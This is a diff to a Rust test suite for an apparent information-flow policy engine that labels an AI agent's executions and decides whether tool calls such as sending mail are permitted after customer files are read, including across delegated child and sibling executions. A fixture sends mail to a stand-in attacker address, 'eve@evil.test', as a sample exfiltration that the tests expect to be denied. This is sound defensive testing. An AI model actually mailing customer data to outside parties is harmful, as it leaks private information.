@@ -12,11 +12,11 @@ const MAIL: (&str, &str) = ("send_mail", r#"{"to":"eve@evil.test","body":"x"}"#)
 const SCRUB: (&str, &str) = ("read_file", r#"{"path":"scrubbed"}"#);
 
 /// Reading `scrub` takes `customer` away; mail needs that not both labels are there.
-fn labelling() -> Bundle {
+fn labelling(semantics: u64) -> Bundle {
     let manifest = r#"
 name = "labels"
 version = "1"
-semantics = 2
+semantics = SEMANTICS
 [tools."office/read_file"]
 action = "read_file"
 resource = { type = "File", argument = "path" }
@@ -62,8 +62,9 @@ type = "File"
 id = "customers/*"
 labels = ["customer"]
 "#;
+    let manifest = manifest.replace("SEMANTICS", &semantics.to_string());
     load([
-        ("bundle.toml", manifest),
+        ("bundle.toml", manifest.as_str()),
         ("schema.cedarschema", schema),
         ("policies/all.dw", policies),
         ("labels.toml", labels),
@@ -71,8 +72,12 @@ labels = ["customer"]
 }
 
 fn domain() -> Domain {
+    domain_under(2)
+}
+
+fn domain_under(semantics: u64) -> Domain {
     let mut domain = Domain::new();
-    domain.publish(&labelling());
+    domain.publish(&labelling(semantics));
     domain.change(Change::WorkloadRegistered(Workload {
         name: "helper".into(),
         os_user: 1002,
@@ -228,23 +233,68 @@ fn what_arrives_around_a_declassification_brings_its_label() {
     }
 }
 
-#[test]
-fn a_child_begins_with_its_parents_labels_and_what_it_adds_is_its_parents_too() {
-    let domain = domain();
-    let mut node = Node::new(&domain);
-    ask(&mut node, FETCH);
+/// Has the node's execution begin one of `helper`'s.
+fn delegate(node: &mut Node) -> String {
     let ticket = node.ticket();
     let mut transition = call("", "{}");
     transition.tool = None;
     transition.method = "agent/start".into();
     transition.hands_on = Some(HandsOn { workload: "helper".into(), grant: Grant::unlimited() });
     let (execution, transition) = (node.execution.clone(), Box::new(transition.into()));
-    node.step(Input::Request { ticket, execution, transition, entropy: [8; 32] });
+    let entropy = [u8::try_from(ticket).unwrap(); 32];
+    node.step(Input::Request { ticket, execution, transition, entropy });
     let child = node.durable().into_iter().find_map(|effect| match effect {
         Effect::Delegated { child, .. } => Some(child),
         _ => None,
     });
-    let (parent, child) = (node.execution.clone(), child.unwrap());
+    child.unwrap()
+}
+
+#[test]
+fn a_child_that_runs_is_decided_with_what_its_parent_and_its_siblings_come_to_carry() {
+    let domain = domain_under(4);
+    let mut node = Node::new(&domain);
+    let (parent, child) = (node.execution.clone(), delegate(&mut node));
+    let sibling = delegate(&mut node);
+    ask(&mut node, FETCH);
+    node.execution = child.clone();
+    assert_eq!(mail(&mut node), "permitted", "it holds nothing of customers yet");
+    node.execution = sibling.clone();
+    ask(&mut node, READ);
+    for (execution, what) in [(&parent, "parent"), (&child, "child"), (&sibling, "sibling")] {
+        node.execution = execution.clone();
+        assert_eq!(mail(&mut node), "policy.denied", "{what}");
+    }
+    // What one of them scrubs, another may tell it again.
+    node.execution = sibling;
+    let scrub = ask(&mut node, ("scrub", SCRUB.1));
+    node.complete(scrub, Completion::Result);
+    assert_eq!(mail(&mut node), "policy.denied");
+    node.execution = parent;
+    let scrub = ask(&mut node, ("scrub", SCRUB.1));
+    node.complete(scrub, Completion::Result);
+    assert_eq!(mail(&mut node), "permitted");
+    proven(&node, &domain);
+}
+
+#[test]
+fn an_earlier_version_of_the_decider_looks_at_what_a_child_began_with() {
+    let domain = domain();
+    let mut node = Node::new(&domain);
+    let child = delegate(&mut node);
+    ask(&mut node, FETCH);
+    node.execution = child;
+    ask(&mut node, READ);
+    assert_eq!(mail(&mut node), "permitted");
+    proven(&node, &domain);
+}
+
+#[test]
+fn a_child_begins_with_its_parents_labels_and_what_it_adds_is_its_parents_too() {
+    let domain = domain();
+    let mut node = Node::new(&domain);
+    ask(&mut node, FETCH);
+    let (parent, child) = (node.execution.clone(), delegate(&mut node));
     assert_eq!(held(&node, &child), ["untrusted"]);
     node.execution = child.clone();
     let read = ask(&mut node, READ);
